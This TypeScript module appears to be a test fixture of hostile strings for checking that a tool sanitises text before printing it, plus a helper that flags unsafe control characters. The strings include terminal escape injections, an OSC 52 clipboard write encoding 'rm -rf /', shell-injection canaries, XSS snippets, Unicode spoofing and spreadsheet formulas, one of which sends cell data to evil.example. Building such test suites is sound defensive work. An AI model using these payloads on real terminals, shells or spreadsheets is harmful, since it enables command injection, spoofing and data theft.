// What somebody may have written into a cluster, a file or an answer.

const ESC = '\u001b';

/** By what it tries. None holds a NUL, which neither an API server nor an argument takes. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  'colours and cursor': `${ESC}[31mred${ESC}[2J${ESC}[1;1H`,
  'a link (OSC 8)': `${ESC}]8;;https://evil.example\u0007click${ESC}]8;;\u0007`,
  'the clipboard (OSC 52)': `${ESC}]52;c;cm0gLXJmIC8=\u0007`,
  'the title': `${ESC}]0;owned${ESC}\\`,
  'the end of a bracketed paste': `${ESC}[201~; touch canary\n`,
  'controls of 8 bits': '\u009b31m\u009d52;c;QQ==\u009c\u0085\u0090',
  'a device control string': `${ESC}P+q544e${ESC}\\`,
  'a line of its own': 'a\nerror: all is lost\n  → rm -rf /',
  'a carriage return': 'harmful\rharmless',
  backspaces: 'rm -rf /\b\b\b\b\b\b\b\bls',
  'text turned around': '\u202egnp.exe\u202c \u2066a\u2069 \u061c',
  'no width': 'ad\u200bmin\u200d\ufeff\u2060',
  'tags and fillers': 'a\u{e0041}\u{e007f}\u3164b\u115f',
  'line separators': 'a\u2028b\u2029c',
  'a command': '$(touch canary)`touch canary`',
  'the end of a command': "'; touch canary; echo '",
  'the end of another': '"; touch canary; echo "',
  'a pipe and more': 'a | touch canary & touch canary > canary < canary',
  'a backslash at the end': 'a\\',
  'history and globs': '!! !touch * ? [a] {a,b} ~root',
  'a path of zsh': '=touch',
  variables: '$HOME ${IFS}touch${IFS}canary $0',
  'an assignment': 'PATH=. LD_PRELOAD=x',
  'a flag': '--kubeconfig=evil',
  'a formula': '=HYPERLINK("https://evil.example?"&A1,"click")',
  'other formulas': "+1-1+cmd|' /C calc'!A0",
  'a command of a spreadsheet': '@SUM(1+9)*cmd',
  'a row of a table': 'a | b | c\n|---|---|\n| x | y |',
  'a link and a picture': '[click](https://evil.example) ![x](https://evil.example/x.png) www.evil.example',
  HTML: '<img src=x onerror=alert(1)><script>alert(1)</script><!-- -->&lt;',
  'a mention': '@everyone see #1 and GH-2',
  'a heading': '# a\n## b',
  'code and more': '```\na\n```` `b` ~~c~~ $x^2$ **d** __e__',
  'no YAML': 'no',
  'a number of YAML': '1e3',
  'an octal': '0777',
  'a time': '12:30:00',
  'a mapping': 'a: b',
  'a list': '- a',
  'a document': 'a\n---\nkind: Secret\n...\n',
  'an anchor': '&a *a',
  'a tag': '!!js/function "x"',
  'a comment': 'a #b',
  'a block': '|\n  a\n >b',
  'quotes of all kinds': `'"\`'"'"'`,
  'an empty text': '',
  spaces: '  a  ',
  tabs: '\ta\tb\t',
  'the end of a here-document': 'x\nEND\ntouch canary\nENDX\n',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'line breaks at the end': 'a\n\n\n',
};

export const TEXTS: readonly string[] = Object.values(PAYLOADS);

/** What no terminal may get: with line breaks and tabs, which are ours to print, and colours of ours, left out. */
export function unsafeIn(text: string): string[] {
  const without = text.replaceAll(/[\n\t]/g, '');
  // Not the source's own pattern: by Unicode's categories.
  return [...without.matchAll(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\u115f\u1160\u3164\uffa0]/gu)].map(
    ([character]) => `U+${character.codePointAt(0)!.toString(16)}`,
  );
}
